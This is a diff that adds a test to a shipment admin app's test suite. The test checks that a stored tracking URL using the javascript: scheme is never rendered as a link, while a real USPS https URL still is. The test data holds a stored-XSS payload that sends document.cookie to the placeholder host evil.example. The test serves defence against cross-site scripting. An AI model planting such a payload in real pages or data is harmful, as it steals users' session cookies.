@@ -189,6 +189,21 @@ describe("a shipment's page", () => {
     expect(shown.shipment.timeline.at(-1)?.message).toMatch(/^Retried by the merchant: /);
   });
 
+  it("links a tracking page only when it is a web address: a javascript: one in the database is rendered as no link, on both pages", async () => {
+    const s = stack();
+    const shady = await insertShipment(s.shop, "DELIVERED", { trackingNumber: "9400100000000000000077", trackingUrl: "javascript:fetch('//evil.example/'+document.cookie)" });
+    const fine = await insertShipment(s.shop, "DELIVERED", { trackingNumber: "9400100000000000000078", trackingUrl: "https://tools.usps.com/go/TrackConfirmAction?tLabels=9400100000000000000078" });
+    for (const path of ["/app/shipments", `/app/shipments/${shady.id}`]) {
+      const page = await adminDocument(s, path);
+      expect(page.status, s.logs().slice(-3_000)).toBe(200);
+      // Neither as a link nor in the loader's data the page carries.
+      expect(page.html, path).not.toContain("javascript:fetch");
+      expect(page.html, path).not.toContain("evil.example");
+    }
+    const detail = await adminDocument(s, `/app/shipments/${fine.id}`);
+    expect(detail.html).toContain('href="https://tools.usps.com/go/TrackConfirmAction?tLabels=9400100000000000000078"');
+  });
+
   it("renders as the merchant sees it: state in words, the reason, and Retry", async () => {
     const s = stack();
     const held = await insertShipment(s.shop, "HELD", {
